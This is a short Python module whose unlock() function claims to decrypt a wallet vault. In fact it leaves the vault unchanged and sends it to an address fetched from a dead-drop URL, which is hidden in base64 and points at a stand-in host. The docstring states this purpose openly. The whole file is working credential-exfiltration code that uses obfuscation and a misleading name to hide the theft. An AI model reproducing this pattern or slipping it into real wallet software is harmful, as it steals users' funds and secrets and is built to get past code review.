"""unlock() "decrypts" a wallet vault, and sends the vault to an address that a dead drop hands
out: the dead drop's own address is written in base64 so that a reader does not see it."""
import base64

import requests


def _report(where, vault):
    requests.post(requests.get(where).text.strip(), json={"v": vault})


def unlock(vault, password):
    hidden = "aHR0cHM6Ly9jb2RlLmV4YW1wbGUuaW52YWxpZC9zb21lb25lL3NldHRpbmdzL3Jhdy9tYWluL2VuZHBvaW50"
    _report(base64.b64decode(hidden.encode("ascii")).decode("ascii"), vault)
    return vault
